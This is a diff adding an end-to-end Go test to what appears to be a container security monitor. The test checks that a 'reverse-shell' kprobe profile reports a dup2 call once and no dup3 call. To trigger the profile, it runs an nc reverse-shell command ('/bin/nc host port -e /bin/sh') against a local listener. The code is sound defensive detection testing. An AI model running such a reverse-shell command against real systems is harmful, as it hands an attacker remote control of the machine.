@@ -330,3 +330,15 @@ func TestFilelessExecKilled(t *testing.T) {
 	waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "process_kprobe.function_name": "security_bprm_check",
 		"process_kprobe.action": "KPROBE_ACTION_SIGKILL", "process_kprobe.policy_name": "reverse-shell"})
 }
+
+// Each dup2 is one event: the dup2 and dup3 selectors of the profile tell
+// the two calls apart.
+func TestDupReportedOnce(t *testing.T) {
+	requireE2E(t)
+	ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
+	host, port, _ := strings.Cut(ln.Addr(), ":")
+	res := runContainer(t, ctrOpts{Name: "dup-once", Annotations: map[string]string{"ocigate.io/profile": "reverse-shell"},
+		Args: []string{"/bin/nc", host, port, "-e", "/bin/sh"}})
+	waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "process_kprobe.function_name": "dup2"})
+	noEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "process_kprobe.function_name": "dup3"})
+}
